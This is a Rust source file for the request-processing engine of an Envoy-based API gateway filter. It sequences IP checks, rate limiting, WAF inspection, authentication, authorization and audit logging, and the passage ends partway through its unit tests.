//! The engine: runs the stages in order for one request and returns a verdict. It knows the
//! order of stages and the modes; it never touches proxy-wasm types.
//!
//! Order (as docs/configuration.md lists it): client IP → route and policy → IP lists (global, then
//! policy) → penalty box → TLS → request limits → `before_auth` rate limits → WAF (head) →
//! authentication → authorization → `after_auth` rate limits → body size → WAF (body, held).

use crate::audit::{self, AuditRecord};
use crate::auth::introspection::IntrospectionCall;
use crate::auth::policy::{strip_credential, AuthRequirement, AuthStep, AuthVia};
use crate::auth::FoundCredential;
use crate::auth::Identity;
use crate::config::Mode;
use crate::denial::{Denial, LocalResponse, Reason};
use crate::host::Host;
use crate::ip::ClientIpOrigin;
use crate::metrics::Metric;
use crate::policy::{Policy, PolicyRules};
use crate::ratelimit::{
    KeyInputs, PenaltyKey, PenaltyKind, RateLimitMetric, Stage, ABNORMAL_USAGE_TYPE, QUOTA_EXCEEDED_TYPE,
};
use crate::request::Request;
use crate::response_headers::ResponseHeaderRules;
use crate::route::{host_of, normalize_path};
use crate::waf::{Outcome, Scan, Waf};
use std::net::IpAddr;

/// What the host must do with the request now.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Let the request go on.
    Continue,
    /// Send this response instead of forwarding the request.
    Deny(LocalResponse),
    /// Hold the request (headers included) and buffer its body: call `on_held_body` with the
    /// body, or its first `Exchange::hold_limit` bytes, before letting anything through.
    Hold,
    /// Hold the request (and buffer any body) and make this call; give its answer to
    /// `on_call_response`.
    Call(IntrospectionCall),
}

/// A request waiting for an outgoing call.
#[derive(Debug)]
pub struct Pending {
    request: Request,
    end_of_stream: bool,
    digest: [u8; 32],
    found: FoundCredential,
}

/// Per-request state kept between the request's callbacks.
#[derive(Debug)]
pub struct Exchange {
    pub request_id: String,
    pub method: String,
    /// The request target as received; `path()` gives its audit form.
    pub target: Vec<u8>,
    pub route: Option<usize>,
    pub policy: usize,
    pub client_ip: Option<IpAddr>,
    pub client_ip_origin: ClientIpOrigin,
    /// The peer was not read with the request (see `Request::peer_deferred`): `client_ip` is
    /// filled from `Host::peer_address` when an audit record needs it.
    pub peer_deferred: bool,
    pub tls: bool,
    pub body_bytes: u64,
    /// The first would-be denial in monitor mode.
    pub would_deny: Option<Denial>,
    /// The denial sent, in enforce mode.
    pub denied: Option<Denial>,
    /// The decision has been recorded (audit, metrics).
    pub recorded: bool,
    /// Where this client's penalty-box record lives (when the box is configured).
    pub penalty_key: Option<PenaltyKey>,
    /// Set when this request's denial put the client in the penalty box: why.
    pub penalty: Option<String>,
    /// Headers to add to the upstream's response (RateLimit fields on allowed requests).
    pub response_extra: Vec<(String, String)>,
    /// A call in flight (introspection) and what is needed to go on when it answers.
    pub pending: Option<Pending>,
    /// Request-header changes for the upstream: `(name, None)` removes, `Some(v)` sets.
    pub request_changes: Vec<(String, Option<String>)>,
    /// The authenticated consumer, when there is one.
    pub consumer: Option<String>,
    /// How the request authenticated (`jwt:<provider>` or `api_key`).
    pub auth_method: Option<String>,
    /// The WAF's inspection so far (when the policy has a WAF).
    pub waf_scan: Option<Scan>,
    /// The WAF's last outcome, for the audit record.
    pub waf_outcome: Option<Outcome>,
    /// A `detect_only` WAF's score reached the threshold (counted once, and audited even when
    /// allowed requests are not).
    pub waf_detected: bool,
    /// While the body is held for inspection: how many bytes to buffer at most.
    pub hold_limit: Option<usize>,
    /// `Content-Type` of the request, kept when its body is held.
    pub content_type: Vec<u8>,
    /// The held body is declared binary: its first bytes decide (`peek_body`) whether it is
    /// inspected as a JSON document or let through uninspected.
    pub peek: bool,
    /// Stage-by-stage notes, kept only when explaining a request (CLI), never in the filter.
    pub trace: Option<Vec<(&'static str, String)>>,
}

impl Exchange {
    /// The path of the request without query values, for audit records (built only for them).
    pub fn path(&self) -> String {
        crate::request::path_without_query_values(&self.target)
    }

    pub fn client_ip_string(&self) -> Option<String> {
        self.client_ip.map(|ip| ip.to_string())
    }

    fn note(&mut self, stage: &'static str, what: impl FnOnce() -> String) {
        if let Some(t) = self.trace.as_mut() {
            t.push((stage, what()));
        }
    }
}

/// The request passed the request-header stages: `Continue`, or a denial already recorded.
pub fn on_request_headers(policy: &Policy, req: &Request, end_of_stream: bool, host: &dyn Host) -> (Exchange, Verdict) {
    run_headers(policy, req, end_of_stream, host, false)
}

fn run_headers(
    policy: &Policy,
    req: &Request,
    end_of_stream: bool,
    host: &dyn Host,
    traced: bool,
) -> (Exchange, Verdict) {
    let xff: Vec<&[u8]> = req.header_values("x-forwarded-for").collect();
    let (client_ip, client_ip_origin) = policy.client_ip.resolve(req.peer, &xff);
    let path = normalize_path(&req.target);
    let (route, pidx) = policy.select(&req.method, &path, &host_of(&req.authority));
    let tls = req.tls || (policy.client_ip.peer_is_trusted(req.peer) && forwarded_proto_is_https(req));
    let mut ex = Exchange {
        request_id: req.id.clone(),
        method: req.method.clone(),
        target: req.target.clone(),
        route,
        policy: pidx,
        client_ip,
        client_ip_origin,
        peer_deferred: req.peer_deferred && req.peer.is_none(),
        tls,
        body_bytes: 0,
        would_deny: None,
        denied: None,
        recorded: false,
        penalty_key: None,
        penalty: None,
        pending: None,
        request_changes: Vec::new(),
        consumer: None,
        auth_method: None,
        waf_scan: None,
        waf_outcome: None,
        waf_detected: false,
        hold_limit: None,
        content_type: Vec::new(),
        peek: false,
        response_extra: Vec::new(),
        trace: traced.then(Vec::new),
    };
    ex.note("client_ip", || format!("{} (from {})", ex_ip(client_ip), client_ip_origin.as_str()));
    ex.note("route", || match route {
        Some(r) => format!("{} matched path {path} → policy {}", policy.routes[r].name, policy.policies[pidx].name),
        None => format!("no route matched path {path} → default policy {}", policy.policies[pidx].name),
    });
    let rules = &policy.policies[pidx];
    let verdict = match run_head_stages(policy, rules, req, &mut ex, host) {
        Ok(Flow::Done) => Verdict::Continue,
        Ok(Flow::Introspect { call, digest, found }) => {
            ex.pending = Some(Pending { request: req.clone(), end_of_stream, digest, found });
            return (ex, Verdict::Call(call));
        }
        Err(denial) => decide(policy, &mut ex, denial, host),
    };
    let verdict = after_head(policy, req, &mut ex, end_of_stream, verdict, host);
    (ex, verdict)
}

/// The answer to the call of `Verdict::Call` (status `None` on timeout or failure): finishes
/// authentication and the head stages, and says what to do with the request now.
pub fn on_call_response(
    policy: &Policy,
    ex: &mut Exchange,
    status: Option<u16>,
    body: &[u8],
    host: &dyn Host,
) -> Verdict {
    let Some(p) = ex.pending.take() else {
        return Verdict::Continue;
    };
    let rules = &policy.policies[ex.policy];
    let answered = rules.auth.introspected(&policy.auth, p.digest, p.found, status, body, host.now_ms());
    let result = match answered {
        Ok(id) => after_identity(policy, rules, &p.request, ex, id, host),
        Err(denial) => {
            host.count_named("palisade.auth.failed", 1);
            stage(ex, "authentication", Err(denial))
        }
    };
    let verdict = match result {
        Ok(()) => Verdict::Continue,
        Err(denial) => decide(policy, ex, denial, host),
    };
    after_head(policy, &p.request, ex, p.end_of_stream, verdict, host)
}

/// After the head stages: hold the body for inspection, or finish a request without a body.
fn after_head(
    policy: &Policy,
    req: &Request,
    ex: &mut Exchange,
    end_of_stream: bool,
    verdict: Verdict,
    host: &dyn Host,
) -> Verdict {
    let rules = &policy.policies[ex.policy];
    let mut verdict = verdict;
    if verdict == Verdict::Continue && !end_of_stream {
        if let Some(waf) = &rules.waf {
            let content_type = req.header("content-type");
            // Every body is held while the WAF is on; one declared binary (`application/octet-stream`,
            // `image/*`, gRPC …) only until its first bytes tell whether it is a JSON document.
            if waf.enabled() {
                ex.content_type = content_type.map(<[u8]>::to_vec).unwrap_or_default();
                let limit = waf.body_limit().min(usize::try_from(rules.limits.max_body_bytes).unwrap_or(usize::MAX));
                ex.hold_limit = Some(limit);
                let peek = content_type.map(targets::body_kind) == Some(BodyKind::Binary);
                ex.peek = peek;
                ex.note("body", || {
                    if peek {
                        format!(
                            "declared binary: held until its first bytes show whether it is JSON (up to {limit} bytes)"
                        )
                    } else {
                        format!("held for inspection (up to {limit} bytes)")
                    }
                });
                verdict = Verdict::Hold;
            }
        }
    }
    if verdict == Verdict::Continue && end_of_stream {
        finish(policy, ex, host);
    }
    verdict
}

pub use crate::waf::targets::PEEK_WINDOW;
use crate::waf::targets::{self, BodyKind, Peek};

/// What the first bytes of a held body declared binary decided.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Peeked {
    /// Not decided yet: buffer more.
    More,
    /// A JSON document: held and inspected as JSON like any other.
    Inspect,
    /// Not JSON (an image, an archive, a file): released uninspected, the rest streams through.
    Release,
}

/// Reads the first bytes of a held body declared binary (`prefix`: up to `PEEK_WINDOW` bytes,
/// `last`: no more will come before the hold ends). A JSON document is inspected as
/// `application/json`, whatever its declared type: a server that decodes JSON without looking
/// at `Content-Type` would read it, so the declared type is no way around the WAF. Anything
/// else is released, as binary bodies were before.
pub fn peek_body(ex: &mut Exchange, prefix: &[u8], last: bool) -> Peeked {
    if !ex.peek {
        return Peeked::Inspect;
    }
    let seen = match targets::peek_json(prefix) {
        Peek::Undecided if !last => return Peeked::More,
        seen => seen,
    };
    ex.peek = false;
    if seen == Peek::Json {
        ex.note("body", || "declared binary, starts a JSON document: inspected as JSON".to_string());
        ex.content_type = b"application/json".to_vec();
        Peeked::Inspect
    } else {
        ex.note("body", || "declared binary, not JSON: released uninspected".to_string());
        ex.hold_limit = None;
        Peeked::Release
    }
}

/// Runs a whole request (headers, then the body in one piece) the way the proxy-wasm glue
/// drives the engine: the CLI uses it, so `explain` and `eval` give Envoy's verdicts.
pub fn evaluate(
    policy: &Policy,
    req: &Request,
    body: Option<&[u8]>,
    host: &dyn Host,
    traced: bool,
) -> (Exchange, Verdict) {
    let (mut ex, mut verdict) = run_headers(policy, req, body.is_none(), host, traced);
    if let Verdict::Call(_) = verdict {
        // Offline there is no endpoint to ask: as if it did not answer.
        ex.note("authentication", || "introspection endpoint not reachable offline: treated as no answer".to_string());
        verdict = on_call_response(policy, &mut ex, None, b"", host);
    }
    let Some(body) = body else {
        return (ex, verdict);
    };
    match verdict {
        Verdict::Deny(_) | Verdict::Call(_) => {}
        Verdict::Continue => verdict = on_request_body(policy, &mut ex, body.len(), true, host),
        Verdict::Hold => {
            verdict = on_request_body(policy, &mut ex, body.len(), false, host);
            let window = &body[..body.len().min(PEEK_WINDOW)];
            if verdict == Verdict::Continue && peek_body(&mut ex, window, true) == Peeked::Release {
                verdict = on_request_body(policy, &mut ex, 0, true, host);
            } else if verdict == Verdict::Continue {
                let limit = ex.hold_limit.unwrap_or(usize::MAX);
                let complete = body.len() <= limit;
                verdict = on_held_body(policy, &mut ex, &body[..body.len().min(limit)], complete, host);
                if verdict == Verdict::Continue && !complete {
                    verdict = on_request_body(policy, &mut ex, 0, true, host);
                }
            }
        }
    }
    (ex, verdict)
}

/// Reports the WAF's automata caches dropped to keep within its memory budget.
fn count_trims(waf: &crate::waf::Waf, host: &dyn Host) {
    let trims = waf.take_cache_trims();
    if trims > 0 {
        host.count(Metric::WafAutomataTrims, trims);
    }
}

/// The held body (all of it when `complete`, else its first `hold_limit` bytes) for inspection.
/// After this the request is no longer held: the rest of a longer body streams through
/// `on_request_body`.
pub fn on_held_body(policy: &Policy, ex: &mut Exchange, body: &[u8], complete: bool, host: &dyn Host) -> Verdict {
    ex.hold_limit = None;
    if ex.denied.is_some() {
        return Verdict::Continue;
    }
    let rules = &policy.policies[ex.policy];
    if let Some(waf) = &rules.waf {
        let scan = ex.waf_scan.get_or_insert_with(Scan::default);
        waf.inspect_body(scan, &ex.content_type, body);
        count_trims(waf, host);
        if !complete {
            waf.body_truncated(scan);
        }
        let outcome = waf.outcome(scan);
        let len = body.len();
        ex.note("waf_body", || {
            format!(
                "{len} bytes{} inspected, score {}",
                if complete { "" } else { " (first part)" },
                outcome.total_score
            )
        });
        note_detected(ex, &outcome, host);
        let result = waf_result(waf, &outcome, rules);
        note_matches(ex, &outcome);
        ex.waf_outcome = Some(outcome);
        if let Some(verdict) = stop_on(policy, ex, result, host) {
            return verdict;
        }
    }
    if complete {
        finish(policy, ex, host);
    }
    Verdict::Continue
}

/// The WAF's verdict as a stage result: blocked requests are denied with the rule ids (never
/// the payload); detect-only and below-threshold requests pass.
fn waf_result(waf: &Waf, outcome: &Outcome, rules: &PolicyRules) -> Result<(), Denial> {
    if !outcome.blocked {
        return Ok(());
    }
    let mut ids: Vec<u32> = outcome.matches.iter().map(|m| m.rule_id).collect();
    ids.sort_unstable();
    ids.dedup();
    Err(Denial::new(
        Reason::WafBlocked,
        format!("anomaly score {} reached the threshold {}", outcome.total_score, waf.threshold()),
    )
    .rule(format!("policies.{}.waf", rules.name))
    .extension("rules", serde_json::json!(ids)))
}

/// A `detect_only` WAF whose score reached the threshold: what block mode would have denied.
/// Counted once per request (`palisade.waf.detected`) and audited even when allowed requests are
/// not (`audit.log_allowed: false`), so a rollout sees what it would block.
fn note_detected(ex: &mut Exchange, outcome: &Outcome, host: &dyn Host) {
    if outcome.over_threshold && !outcome.blocked && !ex.waf_detected {
        ex.waf_detected = true;
        host.count(Metric::WafDetected, 1);
    }
}

fn note_matches(ex: &mut Exchange, outcome: &Outcome) {
    if ex.trace.is_none() {
        return;
    }
    for m in &outcome.matches {
        ex.note("waf_match", || {
            format!("rule {} ({}) on {}: \"{}\" +{}", m.rule_id, m.category.as_str(), m.target, m.matched, m.score)
        });
    }
}

fn ex_ip(ip: Option<IpAddr>) -> String {
    ip.map(|i| i.to_string()).unwrap_or_else(|| "unknown".to_string())
}

/// Runs a stage, noting its outcome when tracing; a denial stops the stages.
fn stage(ex: &mut Exchange, name: &'static str, result: Result<(), Denial>) -> Result<(), Denial> {
    ex.note(name, || match &result {
        Ok(()) => "pass".to_string(),
        Err(d) => format!(
            "deny: {} ({}){}",
            d.reason.code(),
            d.detail,
            d.rule.as_ref().map(|r| format!(", rule {r}")).unwrap_or_default()
        ),
    });
    result
}

/// How the head stages ended when nothing denied.
enum Flow {
    Done,
    /// Authentication needs the introspection endpoint's answer first.
    Introspect {
        call: IntrospectionCall,
        digest: [u8; 32],
        found: FoundCredential,
    },
}

fn run_head_stages(
    policy: &Policy,
    rules: &PolicyRules,
    req: &Request,
    ex: &mut Exchange,
    host: &dyn Host,
) -> Result<Flow, Denial> {
    stage(ex, "ip_lists", policy.ip.check(ex.client_ip).and_then(|_| rules.ip.check(ex.client_ip)))?;
    if policy.penalty.is_some() {
        let boxed = penalty_check(policy, req, ex, host);
        stage(ex, "penalty_box", boxed)?;
    }
    let tls = if rules.require_tls && !ex.tls {
        Err(Denial::new(Reason::TlsRequired, "this resource is only served over HTTPS")
            .rule(format!("policies.{}.require_tls", rules.name)))
    } else {
        Ok(())
    };
    stage(ex, "tls", tls)?;
    stage(ex, "limits", rules.limits.check_head(req).map(|_| ()))?;
    if rules.rate_limits.has_stage(Stage::BeforeAuth) {
        let limited = rate_limit_with(policy, rules, req, ex, Stage::BeforeAuth, host, None);
        stage(ex, "rate_limits", limited)?;
    }
    if let Some(waf) = &rules.waf {
        // A POST that tunnels another method (`X-HTTP-Method-Override: PUT`): harmless when
        // that method selects the same route and policy and the policy accepts it, so that
        // Palisade decides the same whichever method the upstream runs.
        let agreed_tunnel = crate::waf::protocol::tunnelled_method(req).filter(|m| {
            let agrees = rules.limits.allows_method(m)
                && policy.select(m, &normalize_path(&req.target), &host_of(&req.authority)) == (ex.route, ex.policy);
            ex.note("method_override", || {
                let how = if agrees { "same route and policy as POST" } else { "another route or policy than POST" };
                format!("POST tunnels {m}: {how}")
            });
            agrees
        });
        let scan = waf.inspect_head_with(req, agreed_tunnel);
        count_trims(waf, host);
        let outcome = waf.outcome(&scan);
        ex.waf_scan = Some(scan);
        note_detected(ex, &outcome, host);
        let result = waf_result(waf, &outcome, rules);
        note_matches(ex, &outcome);
        ex.waf_outcome = Some(outcome);
        stage(ex, "waf", result)?;
    }
    // Headers Palisade sets from credentials are never taken from the client.
    if !policy.auth.providers.is_empty() || policy.auth.api_keys.is_some() {
        for h in &policy.auth.managed_headers {
            if req.header(h).is_some() {
                ex.request_changes.push((h.clone(), None));
            }
        }
    }
    if rules.auth.require == AuthRequirement::None {
        return Ok(Flow::Done);
    }
    let now_s = host.now_ms() / 1000;
    let identity = match rules.auth.authenticate(&policy.auth, req, now_s, host) {
        Ok(AuthStep::Identified(id)) => id,
        Ok(AuthStep::Introspect { call, digest, found }) => {
            ex.note("authentication", || "opaque token: asking the introspection endpoint".to_string());
            return Ok(Flow::Introspect { call, digest, found });
        }
        Err(denial) => {
            host.count_named("palisade.auth.failed", 1);
            return stage(ex, "authentication", Err(denial)).map(|_| Flow::Done);
        }
    };
    after_identity(policy, rules, req, ex, identity, host).map(|_| Flow::Done)
}

/// Authorization and what follows it, once authentication has decided who the request is.
fn after_identity(
    policy: &Policy,
    rules: &PolicyRules,
    req: &Request,
    ex: &mut Exchange,
    identity: Option<Identity>,
    host: &dyn Host,
) -> Result<(), Denial> {
    let Some(id) = identity else {
        ex.note("authentication", || "anonymous (optional)".to_string());
        return Ok(());
    };
    let label = policy.auth.label(id.via);
    ex.note("authentication", || format!("{label} as {}", id.consumer.as_deref().unwrap_or("(no subject)")));
    // Known before authorization, so that a 403's audit record says who was refused.
    ex.consumer = id.consumer.clone();
    ex.auth_method = Some(label.to_string());
    host.count_named(policy.auth.metric(id.via), 1);
    stage(ex, "authorization", rules.auth.authorize(&policy.auth, &id, &rules.name))?;
    // Upstream sees who it is, and not the credential (unless the provider forwards it).
    if let (Some(consumer), Some(header)) = (&id.consumer, &policy.auth.consumer_header) {
        ex.request_changes.push((header.clone(), Some(consumer.clone())));
    }
    if let Some(token) = &id.token {
        for (h, v) in &token.claim_headers {
            ex.request_changes.push((h.clone(), Some(v.clone())));
        }
    }
    if let (false, Some(found)) = (id.forward, &id.found) {
        ex.request_changes.extend(strip_credential(req, found));
    }
    if rules.rate_limits.has_stage(Stage::AfterAuth) {
        let limited = rate_limit_with(policy, rules, req, ex, Stage::AfterAuth, host, Some(&id));
        stage(ex, "rate_limits_after_auth", limited)?;
    }
    Ok(())
}

fn key_inputs<'a>(policy: &'a Policy, req: &'a Request, ex: &Exchange) -> KeyInputs<'a> {
    KeyInputs {
        client_ip: ex.client_ip,
        consumer: None,
        api_key_id: None,
        route: ex.route.map(|r| policy.routes[r].name.as_str()),
        request: Some(req),
        claims: None,
    }
}

/// Rate limits of one stage, with what authentication found (consumer, API key, claims), if any.
fn rate_limit_with(
    policy: &Policy,
    rules: &PolicyRules,
    req: &Request,
    ex: &mut Exchange,
    stage: Stage,
    host: &dyn Host,
    id: Option<&Identity>,
) -> Result<(), Denial> {
    let lookup = |name: &str| id.and_then(|i| i.token.as_ref()).and_then(|t| t.claim(name)).map(str::to_string);
    let mut inputs = key_inputs(policy, req, ex);
    if let Some(id) = id {
        inputs.consumer = id.consumer.as_deref();
        if id.via == AuthVia::ApiKey {
            inputs.api_key_id = id.consumer.as_deref();
        }
        if id.token.is_some() {
            inputs.claims = Some(&lookup);
        }
    }
    rate_limit_inputs(policy, rules, &inputs, ex, stage, host)
}

/// Refuses a client that is in the penalty box (one shared-data read).
fn penalty_check(policy: &Policy, req: &Request, ex: &mut Exchange, host: &dyn Host) -> Result<(), Denial> {
    let Some(pb) = &policy.penalty else {
        return Ok(());
    };
    let Some(key) = pb.key(&key_inputs(policy, req, ex)) else {
        return Ok(());
    };
    ex.penalty_key = Some(key);
    match pb.check(key, host) {
        None => Ok(()),
        Some(boxed) => {
            host.count(Metric::RateLimit(RateLimitMetric::PenaltyDenied), 1);
            Err(Denial::new(
                Reason::PenaltyBoxed,
                format!("too many refused requests from this client; retry after {}s", boxed.retry_after_s),
            )
            .rule("rate_limiting.penalty_box")
            .header("retry-after", boxed.retry_after_s.to_string())
            .problem_type(ABNORMAL_USAGE_TYPE))
        }
    }
}

fn rate_limit_inputs(
    policy: &Policy,
    rules: &PolicyRules,
    inputs: &KeyInputs<'_>,
    ex: &mut Exchange,
    stage: Stage,
    host: &dyn Host,
) -> Result<(), Denial> {
    let Some(store) = &policy.rate_store else {
        return Ok(());
    };
    let decision = rules.rate_limits.check(stage, inputs, store, host);
    for (m, delta) in decision.stats.metrics() {
        host.count(Metric::RateLimit(m), delta);
    }
    if decision.limited {
        for s in decision.states.iter().filter(|s| s.limited) {
            host.count_named(s.rule.limited_metric(), 1);
        }
        let first = decision.violated_policies().first().map(|n| n.to_string()).unwrap_or_default();
        let mut denial = Denial::new(Reason::RateLimited, decision.reason())
            .rule(format!("policies.{}.rate_limits.{first}", rules.name))
            .problem_type(QUOTA_EXCEEDED_TYPE)
            .extension("violated-policies", serde_json::json!(decision.violated_policies()));
        for (name, value) in decision.response_headers() {
            denial = denial.header(name, value);
        }
        return Err(denial);
    }
    for s in &decision.states {
        host.count_named(s.rule.allowed_metric(), 1);
    }
    ex.response_extra.extend(decision.response_headers().into_iter().map(|(n, v)| (n.to_string(), v)));
    Ok(())
}

/// The penalty-box kind a denial counts as, if any.
fn penalty_kind(reason: Reason) -> Option<PenaltyKind> {
    match reason {
        Reason::RateLimited => Some(PenaltyKind::RateLimited),
        Reason::WafBlocked => Some(PenaltyKind::WafBlock),
        Reason::Unauthenticated => Some(PenaltyKind::AuthFailure),
        _ => None,
    }
}

/// A chunk of the request body arrived (`chunk_len` bytes).
pub fn on_request_body(
    policy: &Policy,
    ex: &mut Exchange,
    chunk_len: usize,
    end_of_stream: bool,
    host: &dyn Host,
) -> Verdict {
    if ex.denied.is_some() {
        return Verdict::Continue;
    }
    ex.body_bytes = ex.body_bytes.saturating_add(chunk_len as u64);
    let rules = &policy.policies[ex.policy];
    if ex.would_deny.is_none() {
        let checked = rules.limits.check_body_so_far(ex.body_bytes);
        if end_of_stream || checked.is_err() {
            let total = ex.body_bytes;
            ex.note("body_size", || match &checked {
                Ok(()) => format!("pass ({total} bytes)"),
                Err(d) => format!("deny: {} ({total} bytes so far)", d.reason.code()),
            });
        }
        if let Some(verdict) = stop_on(policy, ex, checked, host) {
            return verdict;
        }
    }
    if end_of_stream {
        finish(policy, ex, host);
    }
    Verdict::Continue
}

/// The stream is over (Envoy's log phase): records an allowed request not recorded yet.
pub fn on_complete(policy: &Policy, ex: &mut Exchange, host: &dyn Host) {
    finish(policy, ex, host);
}

/// The response headers to set and remove for this request's policy.
pub fn response_headers<'p>(policy: &'p Policy, ex: &Exchange) -> &'p ResponseHeaderRules {
    &policy.policies[ex.policy].response_headers
}

/// `X-Forwarded-Proto` as set by the nearest hop (the last element of the last header).
fn forwarded_proto_is_https(req: &Request) -> bool {
    let Some(value) = req.header_values("x-forwarded-proto").last() else {
        return false;
    };
    let last = value.rsplit(|b| *b == b',').next().unwrap_or(&[]);
    last.trim_ascii().eq_ignore_ascii_case(b"https")
}

/// Applies the policy's mode to a denial: enforce → recorded and returned; monitor → recorded
/// as a would-be denial at the end and the request goes on.
fn decide(policy: &Policy, ex: &mut Exchange, denial: Denial, host: &dyn Host) -> Verdict {
    let rules = &policy.policies[ex.policy];
    match rules.mode {
        Mode::Monitor => {
            if ex.would_deny.is_none() {
                host.count(Metric::Monitored, 1);
                host.count(Metric::MonitoredBy(denial.reason), 1);
                ex.would_deny = Some(denial);
            }
            Verdict::Continue
        }
        Mode::Enforce => {
            host.count(Metric::Denied, 1);
            host.count(Metric::DeniedBy(denial.reason), 1);
            if let (Some(pb), Some(key), Some(kind)) = (&policy.penalty, ex.penalty_key, penalty_kind(denial.reason)) {
                let (boxed, stats) = pb.record_with_stats(kind, key, host);
                if stats.evictions > 0 {
                    host.count(Metric::RateLimit(RateLimitMetric::PenaltyEvictions), u64::from(stats.evictions));
                }
                if let Some(b) = boxed {
                    host.count(Metric::RateLimit(RateLimitMetric::ClientsBoxed), 1);
                    ex.penalty = Some(b.reason);
                }
            }
            let extra: Vec<(String, String)> = rules.response_headers.to_set(ex.tls).cloned().collect();
            let response = LocalResponse::from_denial(&denial, &ex.request_id, &extra);
            ex.denied = Some(denial);
            record(policy, ex, host);
            Verdict::Deny(response)
        }
    }
}

/// A stage's result under the policy's mode: `Some(verdict)` when the request stops here (an
/// enforced denial), `None` when it goes on (passed, or a would-be denial in monitor mode).
fn stop_on(policy: &Policy, ex: &mut Exchange, result: Result<(), Denial>, host: &dyn Host) -> Option<Verdict> {
    let denial = result.err()?;
    let verdict = decide(policy, ex, denial, host);
    (verdict != Verdict::Continue).then_some(verdict)
}

fn finish(policy: &Policy, ex: &mut Exchange, host: &dyn Host) {
    if ex.recorded {
        return;
    }
    if ex.denied.is_none() {
        host.count(Metric::Allowed, 1);
    }
    record(policy, ex, host);
}

fn record(policy: &Policy, ex: &mut Exchange, host: &dyn Host) {
    if ex.recorded {
        return;
    }
    ex.recorded = true;
    let decided = ex.denied.as_ref().or(ex.would_deny.as_ref());
    let audit_cfg = &policy.audit;
    let wanted_in_log = audit_cfg.log && (decided.is_some() || audit_cfg.log_allowed || ex.waf_detected);
    if !wanted_in_log && !audit_cfg.filter_state {
        return;
    }
    if ex.peer_deferred {
        ex.peer_deferred = false;
        (ex.client_ip, ex.client_ip_origin) = policy.client_ip.resolve(host.peer_address(), &[]);
    }
    let decided = ex.denied.as_ref().or(ex.would_deny.as_ref());
    let rules = &policy.policies[ex.policy];
    let record = AuditRecord {
        time: audit::rfc3339(host.now_ms()),
        request_id: &ex.request_id,
        client_ip: ex.client_ip_string(),
        client_ip_source: ex.client_ip_origin.as_str(),
        method: &ex.method,
        path: &ex.path(),
        route: ex.route.map(|r| policy.routes[r].name.as_str()),
        policy: &rules.name,
        decision: if decided.is_some() { "deny" } else { "allow" },
        enforced: ex.would_deny.is_none(),
        reason: decided.map(|d| d.reason.code()),
        status: decided.map(|d| d.status()),
        rule: decided.and_then(|d| d.rule.as_deref()),
        detail: decided.map(|d| d.detail.as_str()),
        consumer: ex.consumer.as_deref(),
        auth: ex.auth_method.as_deref(),
        waf: ex.waf_outcome.as_ref().filter(|o| !o.matches.is_empty()).map(audit::WafSummary::of),
        penalty: ex.penalty.as_deref(),
        mode: match rules.mode {
            Mode::Enforce => "enforce",
            Mode::Monitor => "monitor",
        },
    };
    let json = record.to_json();
    if wanted_in_log {
        host.audit(&json);
    }
    if audit_cfg.filter_state {
        host.set_filter_state(audit::FILTER_STATE_KEY, &json);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::host::MemoryHost;

    fn policy(json: &str) -> Policy {
        Policy::from_json(json.as_bytes()).unwrap()
    }

    #[test]
    fn a_peer_needed_only_for_denials_is_read_only_for_their_audit_records() {
        let lean = policy(r#"{"policies": {"default": {"limits": {"methods": ["GET"]}}}}"#);
        assert!(lean.peer_only_for_denials);
        for needs in [
            r#"{"ip": {"deny": ["203.0.113.0/24"]}}"#,
            r#"{"policies": {"default": {"ip": {"allow": ["10.0.0.0/8"]}}}}"#,
            r#"{"policies": {"default": {"rate_limits": [{"name": "r", "stage": "before_auth", "limit": 5, "period": "1s"}]}}}"#,
            r#"{"audit": {"log_allowed": true}}"#,
            r#"{"audit": {"filter_state": true}}"#,
            r#"{"client_ip": {"source": "x_forwarded_for", "trusted_hops": 1}}"#,
        ] {
            assert!(!policy(needs).peer_only_for_denials, "{needs}");
        }
        let mut host = MemoryHost::at(1_700_000_000_000);
        host.peer = Some("::ffff:192.0.2.7".parse().unwrap());
        let mut r = req("POST", "/x", &[], "127.0.0.1");
        r.peer = None;
        r.peer_deferred = true;
        let (ex, v) = on_request_headers(&lean, &r, true, &host);
        assert!(matches!(v, Verdict::Deny(_)));
        assert_eq!(ex.client_ip, Some("192.0.2.7".parse().unwrap()));
        let rec: serde_json::Value = serde_json::from_str(&host.audits.borrow()[0]).unwrap();
        assert_eq!(rec["client_ip"], "192.0.2.7");
        assert_eq!(rec["client_ip_source"], "connection");
        // An allowed request never asks for it.
        let quiet = MemoryHost::at(1_700_000_000_000);
        let mut ok = req("GET", "/x", &[], "127.0.0.1");
        ok.peer = None;
        ok.peer_deferred = true;
        let (mut ex, v) = on_request_headers(&lean, &ok, true, &quiet);
        on_complete(&lean, &mut ex, &quiet);
        assert_eq!(v, Verdict::Continue);
        assert!(ex.client_ip.is_none() && ex.peer_deferred && quiet.audits.borrow().is_empty());
    }

    fn req(method: &str, target: &str, headers: &[(&str, &[u8])], peer: &str) -> Request {
        let mut h = vec![
            (":method".to_string(), method.as_bytes().to_vec()),
            (":path".to_string(), target.as_bytes().to_vec()),
            (":authority".to_string(), b"api.example.com".to_vec()),
            ("x-request-id".to_string(), b"rid-1".to_vec()),
        ];
        h.extend(headers.iter().map(|(n, v)| (n.to_string(), v.to_vec())));
        let mut r = Request::from_headers(h);
        r.peer = Some(peer.parse().unwrap());
        r
    }

    fn status(v: &Verdict) -> u16 {
        match v {
            Verdict::Continue => 0,
            Verdict::Hold => 1,
            Verdict::Call(_) => 2,
            Verdict::Deny(r) => r.status,
        }
    }

    #[test]
    fn a_method_override_passes_only_where_it_changes_no_decision() {
        // `/wp-json` has one policy for every method; `/admin` sends DELETE to a stricter one.
        let p = policy(
            r#"{"policies": {"default": {"waf": {}}, "strict": {"waf": {"threshold": 3}},
                             "posts": {"waf": {}, "limits": {"methods": ["GET", "POST", "PUT"]}}},
                "routes": [{"prefix": "/admin", "methods": ["DELETE"], "policy": "strict"},
                           {"prefix": "/wp-json", "policy": "posts"}]}"#,
        );
        let run = |method: &str, target: &str, headers: &[(&str, &[u8])]| {
            let host = MemoryHost::at(1_000);
            let r = req(method, target, headers, "192.0.2.1");
            let (ex, v) = evaluate(&p, &r, None, &host, false);
            let rules: Vec<u32> =
                ex.waf_outcome.map(|o| o.matches.iter().map(|m| m.rule_id).collect()).unwrap_or_default();
            (status(&v), rules)
        };
        let wp: &[(&str, &[u8])] = &[("x-http-method-override", b"PUT")];
        // WordPress's REST client: POST with `PUT`, same route and policy either way.
